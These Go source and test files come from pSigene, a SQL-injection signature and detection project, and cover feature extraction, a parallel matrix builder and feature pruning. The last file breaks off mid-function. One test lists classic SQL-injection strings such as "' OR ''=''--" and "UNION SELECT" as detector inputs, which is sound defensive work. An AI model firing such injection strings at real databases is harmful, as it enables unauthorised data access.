// TestSparseMatrixParallelRandomWorkers is the testing/quick property over
// random worker counts: any count, including counts far above the sample
// count, must reproduce the serial matrix exactly.
func TestSparseMatrixParallelRandomWorkers(t *testing.T) {
	ex, err := NewExtractor(Catalog())
	if err != nil {
		t.Fatal(err)
	}
	samples := parallelCorpus()[:60]
	want, err := ex.SparseMatrix(samples)
	if err != nil {
		t.Fatal(err)
	}
	f := func(workers uint8) bool {
		w := int(workers%90) + 1 // 1..90, often exceeding len(samples)
		got, err := ex.SparseMatrixParallel(samples, w)
		if err != nil {
			return false
		}
		for i := 0; i < want.Rows(); i++ {
			wc, wv := want.RowNonZeros(i)
			gc, gv := got.RowNonZeros(i)
			if len(wc) != len(gc) {
				return false
			}
			for k := range wc {
				if wc[k] != gc[k] || wv[k] != gv[k] {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 40}); err != nil {
		t.Error(err)
	}
}

func TestSparseMatrixParallelEmpty(t *testing.T) {
	ex, err := NewExtractor(Catalog())
	if err != nil {
		t.Fatal(err)
	}
	m, err := ex.SparseMatrixParallel(nil, 8)
	if err != nil {
		t.Fatal(err)
	}
	if m.Rows() != 0 {
		t.Fatalf("empty corpus: %d rows, want 0", m.Rows())
	}
}
