package feature

import (
	"sync"
	"sync/atomic"

	"psigene/internal/matrix"
)

// SparseMatrixParallel is SparseMatrix fanned out over a worker pool:
// regex matching dominates training cost and each sample is independent,
// so workers claim samples from a shared atomic counter and write each
// extraction into its preassigned slot. The rows are then appended to the
// CSR builder in sample order, making the result bit-identical to the
// serial SparseMatrix for any worker count. workers <= 0 means GOMAXPROCS;
// workers == 1 is the serial path.
func (e *Extractor) SparseMatrixParallel(samples []string, workers int) (*matrix.Sparse, error) {
	workers = matrix.ResolveWorkers(workers, len(samples))
	if workers <= 1 {
		return e.SparseMatrix(samples)
	}
	type row struct {
		cols []int
		vals []float64
	}
	rows := make([]row, len(samples))
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= len(samples) {
					return
				}
				rows[i].cols, rows[i].vals = e.SparseVector(samples[i])
			}
		}()
	}
	wg.Wait()
	b := matrix.NewSparseBuilder(len(e.set.Features))
	for _, r := range rows {
		if err := b.AppendSparse(r.cols, r.vals); err != nil {
			return nil, err
		}
	}
	return b.Build(), nil
}

// MatrixParallel is Matrix fanned out the same way: workers claim samples
// from an atomic counter and extract directly into the sample's own row of
// the dense matrix — disjoint storage, so no synchronization beyond the
// claim, and bit-identical output for any worker count.
func (e *Extractor) MatrixParallel(samples []string, workers int) (*matrix.Dense, error) {
	workers = matrix.ResolveWorkers(workers, len(samples))
	if workers <= 1 {
		return e.Matrix(samples)
	}
	m, err := matrix.New(len(samples), len(e.set.Features))
	if err != nil {
		return nil, err
	}
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= len(samples) {
					return
				}
				e.VectorInto(samples[i], m.Row(i))
			}
		}()
	}
	wg.Wait()
	return m, nil
}
