package feature

import (
	"math/rand"
	"testing"
)

// countMatchSamples are crafted to stress every counting path: fold
// variants (including the multi-byte orbit runes ſ and K), overlapping
// candidates, empty-ish inputs, and payload-shaped text.
var countMatchSamples = []string{
	"",
	"=",
	"a",
	"id=1&name=x&x==y",
	"' OR ''=''--",
	"---- -- --\t--\n",
	"UNION SELECT * FROM users WHERE a=b",
	"union ſelect verſion() and K and KB",
	"aaaaaa",
	"concat ( concat( CONCAT  (x)",
	"?a&b?c&&d",
	"%27%20or%201=1",
	"exists exists&exists",
	"\x00\x01binary\xff\xfe junk =' --",
	"ſſſſ KKKK sSkK",
}

// TestCountMatchesAgainstFindAll pins countMatches — the literal scan,
// the incremental context-free loop, and the FindAllIndex fallback — to
// len(FindAllIndex), the reference the old extractor used, for every
// catalog pattern over crafted and random samples.
func TestCountMatchesAgainstFindAll(t *testing.T) {
	ex, err := NewExtractor(Catalog())
	if err != nil {
		t.Fatal(err)
	}
	samples := append([]string(nil), countMatchSamples...)
	rng := rand.New(rand.NewSource(99))
	alphabet := []byte("aAsSkK=&?'-*()<>| \t\n/%#;xyz01ſK\xc5\xbf\xff")
	for i := 0; i < 200; i++ {
		b := make([]byte, rng.Intn(60))
		for j := range b {
			b[j] = alphabet[rng.Intn(len(alphabet))]
		}
		samples = append(samples, string(b))
	}
	litPats, incPats := 0, 0
	for pi := range ex.patterns {
		cp := &ex.patterns[pi]
		if cp.lit != nil {
			litPats++
		} else if cp.contextFree {
			incPats++
		}
		for _, s := range samples {
			want := len(cp.re.FindAllString(s, -1))
			got := countMatches(cp, []byte(s))
			if got != want {
				t.Fatalf("pattern %q (lit=%q contextFree=%v) on %q: count %d, want %d",
					ex.set.Features[cp.col].Pattern, cp.lit, cp.contextFree, s, got, want)
			}
		}
	}
	// The catalog must actually exercise both fast paths.
	if litPats == 0 || incPats == 0 {
		t.Fatalf("catalog exercises litPats=%d incPats=%d; fast paths untested", litPats, incPats)
	}
	t.Logf("catalog counting paths: %d literal, %d incremental, %d FindAllIndex",
		litPats, incPats, len(ex.patterns)-litPats-incPats)
}
