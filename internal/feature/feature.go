// Package feature implements pSigene's second phase: characterizing each
// attack sample by a rich set of count-valued features drawn from three
// domain-specific sources (Table II of the paper):
//
//   - MySQL reserved words, which become word-boundary token features;
//   - deconstructed signatures from Snort, Bro and the ModSecurity CRS,
//     split at regex group boundaries into fragment features;
//   - SQLi reference documents, contributing common attack strings.
//
// The full catalog holds 477 candidate features; after extraction over a
// training corpus, features never observed are pruned (the paper lands on
// 159 for its crawl).
package feature

import (
	"fmt"
	"regexp"
	"regexp/syntax"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"unicode/utf8"

	"psigene/internal/matrix"
)

// Source identifies where a feature came from (Table II).
type Source int

// Feature sources, in the paper's presentation order.
const (
	SourceReservedWord Source = iota + 1
	SourceSignature
	SourceReference
)

// String names the source as in Table II.
func (s Source) String() string {
	switch s {
	case SourceReservedWord:
		return "MySQL Reserved Words"
	case SourceSignature:
		return "NIDS/WAF Signatures"
	case SourceReference:
		return "SQLi Reference Documents"
	default:
		return fmt.Sprintf("Source(%d)", int(s))
	}
}

// Feature is one catalog entry. Exactly one of Word or Pattern is set:
// Word features count whole-token occurrences of a reserved word, Pattern
// features count non-overlapping case-insensitive regex matches.
type Feature struct {
	// Name is the unique human-readable identifier (the pattern itself for
	// regex features, the bare word for reserved words).
	Name string
	// Source records the Table II provenance.
	Source Source
	// Word, when non-empty, makes this a token-count feature.
	Word string
	// Pattern, when non-empty, is an RE2 regular expression.
	Pattern string
}

// Set is an ordered collection of features; column j of a feature matrix
// corresponds to Features[j].
type Set struct {
	Features []Feature
}

// Len returns the number of features.
func (s Set) Len() int { return len(s.Features) }

// Names returns the feature names in column order.
func (s Set) Names() []string {
	out := make([]string, len(s.Features))
	for i, f := range s.Features {
		out[i] = f.Name
	}
	return out
}

// CountBySource tallies features per Table II source.
func (s Set) CountBySource() map[Source]int {
	out := make(map[Source]int, 3)
	for _, f := range s.Features {
		out[f.Source]++
	}
	return out
}

// Select returns a new Set with only the given feature indices, in order.
func (s Set) Select(idx []int) (Set, error) {
	out := Set{Features: make([]Feature, 0, len(idx))}
	for _, j := range idx {
		if j < 0 || j >= len(s.Features) {
			return Set{}, fmt.Errorf("feature: index %d out of range %d", j, len(s.Features))
		}
		out.Features = append(out.Features, s.Features[j])
	}
	return out, nil
}

// Catalog returns the full candidate feature set. The paper starts from 477
// candidates; this catalog reproduces that census across the three sources.
func Catalog() Set {
	feats := make([]Feature, 0, 480)
	for _, w := range mysqlReservedWords {
		feats = append(feats, Feature{Name: w, Source: SourceReservedWord, Word: w})
	}
	for _, p := range signatureFragments {
		feats = append(feats, Feature{Name: p, Source: SourceSignature, Pattern: p})
	}
	for _, p := range referencePatterns {
		feats = append(feats, Feature{Name: p, Source: SourceReference, Pattern: p})
	}
	return Set{Features: feats}
}

// Extractor turns samples into count vectors over a feature set. Reserved
// words are counted by tokenizing once per sample; regex features are
// gated by the literal pre-filter (see prefilter.go) and matched only
// when one of their required literals occurred in the sample.
type Extractor struct {
	set      Set
	words    map[string][]int // token -> feature columns
	patterns []compiledPattern
	pre      *prefilter
	preOff   atomic.Bool
	stats    prefilterStats
	scratch  sync.Pool // *Scratch, reused across extraction calls
}

// Scratch holds every reusable buffer of one extraction: the full-width
// accumulator, the touched-column list, the borrowed sparse result, the
// sample and token copy buffers, and the generation-stamped pre-filter
// dedup arrays. One Scratch serves one extraction at a time; acquire it
// from the owning Extractor and release it when done, or hold one per
// serving session to make the hot path allocation-free.
type Scratch struct {
	v       []float64
	touched []int
	cols    []int
	vals    []float64
	sample  []byte
	tok     []byte
	fired   []int32
	litGen  []uint32
	patGen  []uint32
	gen     uint32
}

type compiledPattern struct {
	col int
	re  *regexp.Regexp
	// contextFree marks patterns with no anchors or word boundaries,
	// whose match count can be accumulated with FindIndex from an
	// advancing offset instead of materializing every match position.
	contextFree bool
	// lit, when non-nil, is the folded form of a pattern that is exactly
	// one case-insensitive literal; such patterns are counted by a direct
	// byte scan with no regexp-engine call (and no allocation) at all.
	lit []byte
}

// NewExtractor compiles a feature set. Duplicate names and invalid patterns
// are rejected.
func NewExtractor(set Set) (*Extractor, error) {
	e := &Extractor{set: set, words: make(map[string][]int)}
	seen := make(map[string]bool, len(set.Features))
	for j, f := range set.Features {
		if f.Name == "" {
			return nil, fmt.Errorf("feature %d: empty name", j)
		}
		if seen[f.Name] {
			return nil, fmt.Errorf("feature %d: duplicate name %q", j, f.Name)
		}
		seen[f.Name] = true
		switch {
		case f.Word != "" && f.Pattern != "":
			return nil, fmt.Errorf("feature %q: both Word and Pattern set", f.Name)
		case f.Word != "":
			w := strings.ToLower(f.Word)
			e.words[w] = append(e.words[w], j)
		case f.Pattern != "":
			re, err := regexp.Compile("(?i)" + f.Pattern)
			if err != nil {
				return nil, fmt.Errorf("feature %q: %w", f.Name, err)
			}
			e.patterns = append(e.patterns, compiledPattern{
				col: j, re: re,
				contextFree: isContextFree(f.Pattern),
				lit:         pureLiteral(f.Pattern),
			})
		default:
			return nil, fmt.Errorf("feature %q: neither Word nor Pattern set", f.Name)
		}
	}
	if err := e.buildPrefilter(); err != nil {
		return nil, err
	}
	return e, nil
}

// isContextFree reports whether a pattern's match set at any position is
// independent of the surrounding text: no text/line anchors and no word
// boundaries. Only context-free patterns may count matches by re-slicing
// the sample from an advancing offset — slicing resets the context those
// constructs inspect. Parse errors return false (the compile step in
// NewExtractor reports them properly).
func isContextFree(pattern string) bool {
	re, err := syntax.Parse("(?i)"+pattern, syntax.Perl)
	if err != nil {
		return false
	}
	return contextFreeNode(re)
}

func contextFreeNode(re *syntax.Regexp) bool {
	switch re.Op {
	case syntax.OpBeginLine, syntax.OpEndLine, syntax.OpBeginText,
		syntax.OpEndText, syntax.OpWordBoundary, syntax.OpNoWordBoundary:
		return false
	}
	for _, sub := range re.Sub {
		if !contextFreeNode(sub) {
			return false
		}
	}
	return true
}

// newScratch builds a Scratch sized for this extractor.
func (e *Extractor) newScratch() *Scratch {
	sc := &Scratch{v: make([]float64, len(e.set.Features))}
	if e.pre != nil {
		sc.litGen = make([]uint32, len(e.pre.lits))
		sc.patGen = make([]uint32, len(e.patterns))
	}
	return sc
}

// AcquireScratch borrows a Scratch from the extractor's pool. Callers on
// a steady-state serving path should hold one per session (see
// core.Model's session support) so extraction allocates nothing.
func (e *Extractor) AcquireScratch() *Scratch {
	sc, _ := e.scratch.Get().(*Scratch)
	if sc == nil || len(sc.v) != len(e.set.Features) {
		sc = e.newScratch()
	}
	return sc
}

// ReleaseScratch returns a Scratch to the pool. The slices borrowed from
// it by SparseInto become invalid.
func (e *Extractor) ReleaseScratch(sc *Scratch) { e.scratch.Put(sc) }

// Set returns the feature set the extractor was built from.
func (e *Extractor) Set() Set { return e.set }

// Vector extracts the count vector of one (normalized) sample. It
// allocates a fresh full-width vector per call; on matching hot paths
// prefer VectorInto with a caller-owned buffer, or SparseVector, which
// allocates only O(nonzeros).
func (e *Extractor) Vector(sample string) []float64 {
	return e.VectorInto(sample, make([]float64, len(e.set.Features)))
}

// VectorInto extracts the count vector of one (normalized) sample into v,
// which must have length Set().Len(); previous contents are overwritten.
// It returns v. Reusing one buffer across calls keeps the matching hot
// path allocation-free; the buffer must not be retained across calls that
// reuse it.
func (e *Extractor) VectorInto(sample string, v []float64) []float64 {
	if len(v) != len(e.set.Features) {
		panic(fmt.Sprintf("feature: vector buffer has %d slots, want %d", len(v), len(e.set.Features)))
	}
	for i := range v {
		v[i] = 0
	}
	sc := e.AcquireScratch()
	sc.sample = append(sc.sample[:0], sample...)
	cols, vals := e.SparseInto(sc.sample, sc)
	for k, j := range cols {
		v[j] = vals[k]
	}
	e.ReleaseScratch(sc)
	return v
}

// SparseVector extracts only the nonzero feature counts of one
// (normalized) sample, returning ascending column indices and their
// counts. The per-call cost and allocation are proportional to the number
// of features that actually fire — on benign serving traffic (the paper's
// FPR-dominated workload) that is a handful out of hundreds. The returned
// slices are fresh; zero-allocation callers use SparseInto with a held
// Scratch instead.
func (e *Extractor) SparseVector(sample string) (cols []int, vals []float64) {
	sc := e.AcquireScratch()
	sc.sample = append(sc.sample[:0], sample...)
	bcols, bvals := e.SparseInto(sc.sample, sc)
	cols = make([]int, len(bcols))
	vals = make([]float64, len(bvals))
	copy(cols, bcols)
	copy(vals, bvals)
	e.ReleaseScratch(sc)
	return cols, vals
}

// SparseInto extracts the sparse count vector of one (normalized) sample
// given as bytes, using only sc's buffers: ascending column indices and
// their counts, borrowed from sc and valid until its next use. This is
// the allocation-free serving core every other extraction entry point
// wraps.
func (e *Extractor) SparseInto(sample []byte, sc *Scratch) (cols []int, vals []float64) {
	sc.touched = sc.touched[:0]

	// Reserved words: one tokenization pass shared by every word feature.
	i := 0
	for i < len(sample) {
		if !isWordByte(sample[i]) {
			i++
			continue
		}
		j := i + 1
		for j < len(sample) && isWordByte(sample[j]) {
			j++
		}
		for _, col := range e.lookupWord(sample[i:j], sc) {
			if sc.v[col] == 0 {
				sc.touched = append(sc.touched, col)
			}
			sc.v[col]++
		}
		i = j
	}

	// Regex patterns: all of them when the pre-filter is off, otherwise
	// only those whose required literals occurred plus the always-run set.
	if e.preOff.Load() || e.pre == nil {
		for pi := range e.patterns {
			e.countPattern(pi, sample, sc)
		}
	} else {
		pre := e.pre
		sc.gen++
		if sc.gen == 0 { // generation wrapped: stamps are ambiguous, reset
			clear(sc.litGen)
			clear(sc.patGen)
			sc.gen = 1
		}
		sc.fired = sc.fired[:0]
		if pre.ac != nil {
			pre.ac.Scan(sample, func(lit int32) {
				if sc.litGen[lit] == sc.gen {
					return
				}
				sc.litGen[lit] = sc.gen
				for _, pi := range pre.owners[lit] {
					if sc.patGen[pi] != sc.gen {
						sc.patGen[pi] = sc.gen
						sc.fired = append(sc.fired, pi)
					}
				}
			})
		}
		for _, pi := range sc.fired {
			e.countPattern(int(pi), sample, sc)
		}
		for _, pi := range pre.always {
			e.countPattern(int(pi), sample, sc)
		}
		ran := len(sc.fired) + len(pre.always)
		e.stats.samples.Add(1)
		e.stats.evaluated.Add(int64(ran))
		e.stats.skipped.Add(int64(len(e.patterns) - ran))
	}

	// Sorting the touched columns makes the output independent of the
	// order patterns were evaluated in, so the gated and ungated paths
	// are bit-identical by construction.
	sort.Ints(sc.touched)
	sc.cols, sc.vals = sc.cols[:0], sc.vals[:0]
	for _, j := range sc.touched {
		sc.cols = append(sc.cols, j)
		sc.vals = append(sc.vals, sc.v[j])
		sc.v[j] = 0
	}
	return sc.cols, sc.vals
}

// countPattern evaluates one regex feature and records its match count.
func (e *Extractor) countPattern(pi int, sample []byte, sc *Scratch) {
	cp := &e.patterns[pi]
	if n := countMatches(cp, sample); n > 0 {
		sc.v[cp.col] = float64(n)
		sc.touched = append(sc.touched, cp.col)
	}
}

// countMatches counts non-overlapping matches with FindAllIndex
// semantics. Context-free patterns (the catalog norm) count incrementally
// with FindIndex from an advancing offset — no per-match allocations —
// replicating regexp's non-overlapping scan exactly: empty matches
// abutting the previous match are skipped and advance by one rune.
// Patterns with anchors or word boundaries fall back to FindAllIndex,
// because re-slicing the sample would reset the context they inspect.
func countMatches(cp *compiledPattern, sample []byte) int {
	if cp.lit != nil {
		return countFoldedLiteral(sample, cp.lit)
	}
	if !cp.contextFree {
		return len(cp.re.FindAllIndex(sample, -1))
	}
	n, pos, prevEnd := 0, 0, -1
	for pos <= len(sample) {
		loc := cp.re.FindIndex(sample[pos:])
		if loc == nil {
			break
		}
		start, end := pos+loc[0], pos+loc[1]
		if end > start {
			n++
			pos, prevEnd = end, end
			continue
		}
		// Empty match. A context-free pattern that matches empty anywhere
		// matches empty everywhere, so start == pos here; count it unless
		// it abuts the previous match, then advance one rune.
		if start != prevEnd {
			n++
		}
		prevEnd = end
		if start == len(sample) {
			break
		}
		_, width := utf8.DecodeRune(sample[start:])
		pos = start + width
	}
	return n
}

// countFoldedLiteral counts non-overlapping occurrences of a folded
// pure-literal pattern (see pureLiteral) with an ASCII case-folding byte
// scan — the same leftmost scan-and-skip order as the regexp engine's
// non-overlapping FindAll, so the counts are identical, without the
// per-match position slice the engine allocates.
func countFoldedLiteral(sample, lit []byte) int {
	n := 0
	for i := 0; i+len(lit) <= len(sample); {
		if foldedEqAt(sample, i, lit) {
			n++
			i += len(lit)
			continue
		}
		i++
	}
	return n
}

func foldedEqAt(sample []byte, i int, lit []byte) bool {
	for k, want := range lit {
		c := sample[i+k]
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		if c != want {
			return false
		}
	}
	return true
}

func isWordByte(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_'
}

// lookupWord resolves a token's feature columns. Tokens are pure ASCII
// word bytes, so ASCII folding equals the Unicode lowering the word index
// was built with; all-lowercase tokens (the normalized-sample norm) index
// the map directly without copying.
func (e *Extractor) lookupWord(tok []byte, sc *Scratch) []int {
	lower := true
	for _, c := range tok {
		if c >= 'A' && c <= 'Z' {
			lower = false
			break
		}
	}
	if lower {
		return e.words[string(tok)]
	}
	t := sc.tok[:0]
	for _, c := range tok {
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		t = append(t, c)
	}
	sc.tok = t
	return e.words[string(t)]
}

// Matrix extracts all samples into an n×d dense count matrix — the
// reference backing used for parity testing.
func (e *Extractor) Matrix(samples []string) (*matrix.Dense, error) {
	m, err := matrix.New(len(samples), len(e.set.Features))
	if err != nil {
		return nil, err
	}
	for i, s := range samples {
		e.VectorInto(s, m.Row(i))
	}
	return m, nil
}

// SparseMatrix extracts all samples into an n×d CSR count matrix, storing
// only the features that fired — the pipeline's working backing.
func (e *Extractor) SparseMatrix(samples []string) (*matrix.Sparse, error) {
	b := matrix.NewSparseBuilder(len(e.set.Features))
	for _, s := range samples {
		cols, vals := e.SparseVector(s)
		if err := b.AppendSparse(cols, vals); err != nil {
			return nil, err
		}
	}
	return b.Build(), nil
}

// PruneUnobserved drops features whose column is zero in every sample of m
// (the 477 → 159 step). It returns the reduced matrix (same backing), the
// reduced set, and the kept column indices into the original set.
func PruneUnobserved(m matrix.RowMatrix, set Set) (matrix.RowMatrix, Set, []int, error) {
	if m.Cols() != set.Len() {
		return nil, Set{}, nil, fmt.Errorf("feature: matrix has %d columns, set %d", m.Cols(), set.Len())
	}
	observed := make([]bool, m.Cols())
	for i := 0; i < m.Rows(); i++ {
		cols, vals := m.RowNonZeros(i)
		if cols == nil {
			for j, v := range vals {
				if v != 0 {
					observed[j] = true
				}
			}
			continue
		}
		for _, j := range cols {
			observed[j] = true
		}
	}
	var kept []int
	for j, ok := range observed {
		if ok {
			kept = append(kept, j)
		}
	}
	sub, err := m.SelectCols(kept)
	if err != nil {
		return nil, Set{}, nil, err
	}
	reduced, err := set.Select(kept)
	if err != nil {
		return nil, Set{}, nil, err
	}
	return sub, reduced, kept, nil
}

// Dedupe collapses identical samples, returning the unique samples with
// their multiplicities. Order of first appearance is preserved. Running the
// pipeline on deduplicated samples with weights is equivalent to running it
// on the full corpus.
func Dedupe(samples []string) (unique []string, weights []float64) {
	idx := make(map[string]int, len(samples))
	for _, s := range samples {
		if k, ok := idx[s]; ok {
			weights[k]++
			continue
		}
		idx[s] = len(unique)
		unique = append(unique, s)
		weights = append(weights, 1)
	}
	return unique, weights
}

// BinaryizeInPlace clamps every positive count to 1 — used by the
// binary-vs-count ablation the paper mentions ("this did not produce good
// results"). Both matrix backings implement the clamp natively.
func BinaryizeInPlace(m matrix.RowMatrix) {
	m.Binaryize()
}

// PruneDuplicateColumns removes features whose observed count column is
// identical to an earlier feature's — the "overlapping features" the paper
// removes on the way from 477 candidates to 159 (two regexes that always
// fire the same number of times on the training corpus carry no independent
// signal). It returns the reduced matrix (same backing), the reduced set,
// and the kept column indices. Columns are compared by their nonzero
// (row, value) profile, accumulated in one O(nnz) pass.
func PruneDuplicateColumns(m matrix.RowMatrix, set Set) (matrix.RowMatrix, Set, []int, error) {
	if m.Cols() != set.Len() {
		return nil, Set{}, nil, fmt.Errorf("feature: matrix has %d columns, set %d", m.Cols(), set.Len())
	}
	sigs := make([][]byte, m.Cols())
	appendCell := func(i, j int, v float64) {
		buf := sigs[j]
		buf = strconv.AppendInt(buf, int64(i), 10)
		buf = append(buf, ':')
		buf = strconv.AppendFloat(buf, v, 'g', -1, 64)
		buf = append(buf, ',')
		sigs[j] = buf
	}
	for i := 0; i < m.Rows(); i++ {
		cols, vals := m.RowNonZeros(i)
		if cols == nil {
			for j, v := range vals {
				if v != 0 {
					appendCell(i, j, v)
				}
			}
			continue
		}
		for k, j := range cols {
			appendCell(i, j, vals[k])
		}
	}
	seen := make(map[string]bool, m.Cols())
	var kept []int
	for j := 0; j < m.Cols(); j++ {
		k := string(sigs[j])
		if seen[k] {
			continue
		}
		seen[k] = true
		kept = append(kept, j)
	}
	sub, err := m.SelectCols(kept)
	if err != nil {
		return nil, Set{}, nil, err
	}
	reduced, err := set.Select(kept)
	if err != nil {
		return nil, Set{}, nil, err
	}
	return sub, reduced, kept, nil
}
