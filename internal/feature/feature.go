// Package feature implements pSigene's second phase: characterizing each
// attack sample by a rich set of count-valued features drawn from three
// domain-specific sources (Table II of the paper):
//
//   - MySQL reserved words, which become word-boundary token features;
//   - deconstructed signatures from Snort, Bro and the ModSecurity CRS,
//     split at regex group boundaries into fragment features;
//   - SQLi reference documents, contributing common attack strings.
//
// The full catalog holds 477 candidate features; after extraction over a
// training corpus, features never observed are pruned (the paper lands on
// 159 for its crawl).
package feature

import (
	"fmt"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"

	"psigene/internal/matrix"
)

// Source identifies where a feature came from (Table II).
type Source int

// Feature sources, in the paper's presentation order.
const (
	SourceReservedWord Source = iota + 1
	SourceSignature
	SourceReference
)

// String names the source as in Table II.
func (s Source) String() string {
	switch s {
	case SourceReservedWord:
		return "MySQL Reserved Words"
	case SourceSignature:
		return "NIDS/WAF Signatures"
	case SourceReference:
		return "SQLi Reference Documents"
	default:
		return fmt.Sprintf("Source(%d)", int(s))
	}
}

// Feature is one catalog entry. Exactly one of Word or Pattern is set:
// Word features count whole-token occurrences of a reserved word, Pattern
// features count non-overlapping case-insensitive regex matches.
type Feature struct {
	// Name is the unique human-readable identifier (the pattern itself for
	// regex features, the bare word for reserved words).
	Name string
	// Source records the Table II provenance.
	Source Source
	// Word, when non-empty, makes this a token-count feature.
	Word string
	// Pattern, when non-empty, is an RE2 regular expression.
	Pattern string
}

// Set is an ordered collection of features; column j of a feature matrix
// corresponds to Features[j].
type Set struct {
	Features []Feature
}

// Len returns the number of features.
func (s Set) Len() int { return len(s.Features) }

// Names returns the feature names in column order.
func (s Set) Names() []string {
	out := make([]string, len(s.Features))
	for i, f := range s.Features {
		out[i] = f.Name
	}
	return out
}

// CountBySource tallies features per Table II source.
func (s Set) CountBySource() map[Source]int {
	out := make(map[Source]int, 3)
	for _, f := range s.Features {
		out[f.Source]++
	}
	return out
}

// Select returns a new Set with only the given feature indices, in order.
func (s Set) Select(idx []int) (Set, error) {
	out := Set{Features: make([]Feature, 0, len(idx))}
	for _, j := range idx {
		if j < 0 || j >= len(s.Features) {
			return Set{}, fmt.Errorf("feature: index %d out of range %d", j, len(s.Features))
		}
		out.Features = append(out.Features, s.Features[j])
	}
	return out, nil
}

// Catalog returns the full candidate feature set. The paper starts from 477
// candidates; this catalog reproduces that census across the three sources.
func Catalog() Set {
	feats := make([]Feature, 0, 480)
	for _, w := range mysqlReservedWords {
		feats = append(feats, Feature{Name: w, Source: SourceReservedWord, Word: w})
	}
	for _, p := range signatureFragments {
		feats = append(feats, Feature{Name: p, Source: SourceSignature, Pattern: p})
	}
	for _, p := range referencePatterns {
		feats = append(feats, Feature{Name: p, Source: SourceReference, Pattern: p})
	}
	return Set{Features: feats}
}

// Extractor turns samples into count vectors over a feature set. Reserved
// words are counted by tokenizing once per sample; regex features are
// matched individually.
type Extractor struct {
	set      Set
	words    map[string][]int // token -> feature columns
	patterns []compiledPattern
	scratch  sync.Pool // *sparseScratch, reused across SparseVector calls
}

// sparseScratch is the reusable per-call state of SparseVector: a
// full-width accumulator plus the list of touched columns, so building a
// sparse vector allocates only the O(nnz) result.
type sparseScratch struct {
	v       []float64
	touched []int
}

type compiledPattern struct {
	col int
	re  *regexp.Regexp
}

// NewExtractor compiles a feature set. Duplicate names and invalid patterns
// are rejected.
func NewExtractor(set Set) (*Extractor, error) {
	e := &Extractor{set: set, words: make(map[string][]int)}
	seen := make(map[string]bool, len(set.Features))
	for j, f := range set.Features {
		if f.Name == "" {
			return nil, fmt.Errorf("feature %d: empty name", j)
		}
		if seen[f.Name] {
			return nil, fmt.Errorf("feature %d: duplicate name %q", j, f.Name)
		}
		seen[f.Name] = true
		switch {
		case f.Word != "" && f.Pattern != "":
			return nil, fmt.Errorf("feature %q: both Word and Pattern set", f.Name)
		case f.Word != "":
			w := strings.ToLower(f.Word)
			e.words[w] = append(e.words[w], j)
		case f.Pattern != "":
			re, err := regexp.Compile("(?i)" + f.Pattern)
			if err != nil {
				return nil, fmt.Errorf("feature %q: %w", f.Name, err)
			}
			e.patterns = append(e.patterns, compiledPattern{col: j, re: re})
		default:
			return nil, fmt.Errorf("feature %q: neither Word nor Pattern set", f.Name)
		}
	}
	return e, nil
}

// Set returns the feature set the extractor was built from.
func (e *Extractor) Set() Set { return e.set }

// Vector extracts the count vector of one (normalized) sample. It
// allocates a fresh full-width vector per call; on matching hot paths
// prefer VectorInto with a caller-owned buffer, or SparseVector, which
// allocates only O(nonzeros).
func (e *Extractor) Vector(sample string) []float64 {
	return e.VectorInto(sample, make([]float64, len(e.set.Features)))
}

// VectorInto extracts the count vector of one (normalized) sample into v,
// which must have length Set().Len(); previous contents are overwritten.
// It returns v. Reusing one buffer across calls keeps the matching hot
// path allocation-free; the buffer must not be retained across calls that
// reuse it.
func (e *Extractor) VectorInto(sample string, v []float64) []float64 {
	if len(v) != len(e.set.Features) {
		panic(fmt.Sprintf("feature: vector buffer has %d slots, want %d", len(v), len(e.set.Features)))
	}
	for i := range v {
		v[i] = 0
	}
	e.countWords(sample, v)
	for _, cp := range e.patterns {
		if m := cp.re.FindAllStringIndex(sample, -1); m != nil {
			v[cp.col] = float64(len(m))
		}
	}
	return v
}

// SparseVector extracts only the nonzero feature counts of one
// (normalized) sample, returning ascending column indices and their
// counts. The per-call cost and allocation are proportional to the number
// of features that actually fire — on benign serving traffic (the paper's
// FPR-dominated workload) that is a handful out of hundreds.
func (e *Extractor) SparseVector(sample string) (cols []int, vals []float64) {
	sc, _ := e.scratch.Get().(*sparseScratch)
	if sc == nil || len(sc.v) != len(e.set.Features) {
		sc = &sparseScratch{v: make([]float64, len(e.set.Features))}
	}
	i := 0
	for i < len(sample) {
		if !isWordByte(sample[i]) {
			i++
			continue
		}
		j := i + 1
		for j < len(sample) && isWordByte(sample[j]) {
			j++
		}
		tok := strings.ToLower(sample[i:j])
		for _, col := range e.words[tok] {
			if sc.v[col] == 0 {
				sc.touched = append(sc.touched, col)
			}
			sc.v[col]++
		}
		i = j
	}
	for _, cp := range e.patterns {
		if m := cp.re.FindAllStringIndex(sample, -1); m != nil {
			sc.v[cp.col] = float64(len(m))
			sc.touched = append(sc.touched, cp.col)
		}
	}
	sort.Ints(sc.touched)
	cols = make([]int, len(sc.touched))
	vals = make([]float64, len(sc.touched))
	for k, j := range sc.touched {
		cols[k] = j
		vals[k] = sc.v[j]
		sc.v[j] = 0
	}
	sc.touched = sc.touched[:0]
	e.scratch.Put(sc)
	return cols, vals
}

func isWordByte(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_'
}

// countWords tokenizes sample into maximal word-character runs and counts
// reserved-word features, equivalent to matching \bword\b per word.
func (e *Extractor) countWords(sample string, v []float64) {
	i := 0
	for i < len(sample) {
		if !isWordByte(sample[i]) {
			i++
			continue
		}
		j := i + 1
		for j < len(sample) && isWordByte(sample[j]) {
			j++
		}
		tok := strings.ToLower(sample[i:j])
		for _, col := range e.words[tok] {
			v[col]++
		}
		i = j
	}
}

// Matrix extracts all samples into an n×d dense count matrix — the
// reference backing used for parity testing.
func (e *Extractor) Matrix(samples []string) (*matrix.Dense, error) {
	m, err := matrix.New(len(samples), len(e.set.Features))
	if err != nil {
		return nil, err
	}
	for i, s := range samples {
		e.VectorInto(s, m.Row(i))
	}
